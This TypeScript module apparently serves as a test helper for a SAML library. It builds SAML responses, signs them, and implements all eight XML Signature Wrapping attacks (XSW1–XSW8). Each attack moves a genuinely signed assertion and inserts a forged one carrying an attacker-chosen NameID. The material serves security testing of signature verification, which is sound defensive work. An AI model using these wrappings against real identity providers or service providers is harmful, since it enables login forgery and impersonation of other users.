import { createRequire } from 'node:module'
import type * as Xml from '../node_modules/@node-saml/node-saml/lib/xml.d.ts'

// The package's own way of signing, which its main file does not export.
const { signXml }: typeof Xml = createRequire(import.meta.url)('@node-saml/node-saml/lib/xml.js')

export type Statement = {
  requestId: string
  issuer: string
  audience: string
  recipient: string
  nameId: string
  notBefore?: number
  notOnOrAfter?: number
  /** What the confirmation says it answers, where that is not the request. */
  confirmedId?: string
  nameIdFormat?: string
}

const minute = 60_000

/** A SAML answer by hand, not signed. */
export function unsignedResponse(statement: Statement): string {
  const now = Date.now()
  const time = (at: number) => new Date(at).toISOString()
  const { notBefore = now - minute, notOnOrAfter = now + 5 * minute } = statement
  const { requestId, issuer, audience, recipient, nameId, confirmedId = requestId } = statement
  const format = statement.nameIdFormat ?? 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress'
  return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_response" InResponseTo="${requestId}" Version="2.0" IssueInstant="${time(now)}" Destination="${recipient}"><saml:Issuer>${issuer}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>${assertion()}</samlp:Response>`

  function assertion(): string {
    return `<saml:Assertion ID="_assertion" Version="2.0" IssueInstant="${time(now)}"><saml:Issuer>${issuer}</saml:Issuer><saml:Subject><saml:NameID Format="${format}">${nameId}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${time(notOnOrAfter)}" Recipient="${recipient}" InResponseTo="${confirmedId}"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${time(notBefore)}" NotOnOrAfter="${time(notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${time(now)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement></saml:Assertion>`
  }
}

export type Signed = 'Assertion' | 'Response'

/** Signs one element, as a provider does. */
export function signed(
  xml: string,
  {
    element,
    privateKey,
    algorithm = 'sha256',
  }: { element: Signed; privateKey: string; algorithm?: 'sha1' | 'sha256' },
): string {
  const path =
    element === 'Response'
      ? "/*[local-name(.)='Response']"
      : "/*[local-name(.)='Response']/*[local-name(.)='Assertion']"
  const location = { reference: `${path}/*[local-name(.)='Issuer']`, action: 'after' } as const
  return signXml(xml, path, location, {
    privateKey,
    signatureAlgorithm: algorithm,
    digestAlgorithm: algorithm,
  })
}

/** The parts of a signed answer that wrapping moves about. */
function partsOf(xml: string, element: Signed) {
  const whole =
    new RegExp(`<(saml|samlp):${element}[ >].*</(saml|samlp):${element}>`, 's').exec(xml)?.[0] ?? ''
  const signature = /<(?:ds:)?Signature .*<\/(?:ds:)?Signature>/s.exec(whole)?.[0] ?? ''
  return { whole, signature, bare: whole.replace(signature, '') }
}

/**
 * The eight known ways to wrap a signature, each from an answer that is really signed: what is signed stays
 * somewhere in the document, and another statement stands where a careless reader looks.
 */
export const wrappings: [name: string, element: Signed, wrap: (xml: string, evil: string) => string][] = [
  [
    'XSW1: the signed response in the signature of a forged one',
    'Response',
    (xml, evil) => {
      const { signature, bare } = partsOf(xml, 'Response')
      const forged = forge(bare, evil).replace('ID="_response"', 'ID="_evil"')
      return forged.replace('</saml:Issuer>', `</saml:Issuer>${into(signature, bare)}`)
    },
  ],
  [
    'XSW2: the signed response before the signature of a forged one',
    'Response',
    (xml, evil) => {
      const { signature, bare } = partsOf(xml, 'Response')
      const forged = forge(bare, evil).replace('ID="_response"', 'ID="_evil"')
      return forged.replace('</saml:Issuer>', `</saml:Issuer>${bare}${signature}`)
    },
  ],
  [
    'XSW3: a forged assertion before the signed one',
    'Assertion',
    (xml, evil) => {
      const { whole, bare } = partsOf(xml, 'Assertion')
      return xml.replace(whole, `${renamed(forge(bare, evil))}${whole}`)
    },
  ],
  [
    'XSW4: the signed assertion inside a forged one',
    'Assertion',
    (xml, evil) => {
      const { whole, bare } = partsOf(xml, 'Assertion')
      const forged = renamed(forge(bare, evil)).replace(/<\/saml:Assertion>$/, `${whole}</saml:Assertion>`)
      return xml.replace(whole, forged)
    },
  ],
  [
    'XSW5: a forged assertion with the signature, and the signed one at the end',
    'Assertion',
    (xml, evil) => {
      const { whole, bare } = partsOf(xml, 'Assertion')
      const forged = renamed(forge(whole, evil))
      return xml.replace(whole, forged).replace('</samlp:Response>', `${bare}</samlp:Response>`)
    },
  ],
  [
    'XSW6: a forged assertion with the signature, and the signed one in it',
    'Assertion',
    (xml, evil) => {
      const { whole, signature, bare } = partsOf(xml, 'Assertion')
      return xml.replace(
        whole,
        renamed(forge(bare, evil)).replace('</saml:Issuer>', `</saml:Issuer>${into(signature, bare)}`),
      )
    },
  ],
  [
    'XSW7: a forged assertion in an extension before the signed one',
    'Assertion',
    (xml, evil) => {
      const { whole, bare } = partsOf(xml, 'Assertion')
      const extension = `<samlp:Extensions>${forge(bare, evil)}</samlp:Extensions>`
      return xml.replace(whole, `${extension}${whole}`)
    },
  ],
  [
    'XSW8: the signed assertion in an object of the signature of a forged one',
    'Assertion',
    (xml, evil) => {
      const { whole, signature, bare } = partsOf(xml, 'Assertion')
      const object = `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`
      return xml.replace(
        whole,
        forge(bare, evil).replace('</saml:Issuer>', `</saml:Issuer>${into(signature, object)}`),
      )
    },
  ],
]

function forge(xml: string, evil: string): string {
  return xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evil}`)
}

function renamed(xml: string): string {
  return xml.replace('ID="_assertion"', 'ID="_evil"')
}

function into(signature: string, content: string): string {
  return signature.replace(/<\/((?:ds:)?Signature)>$/, `${content}</$1>`)
}
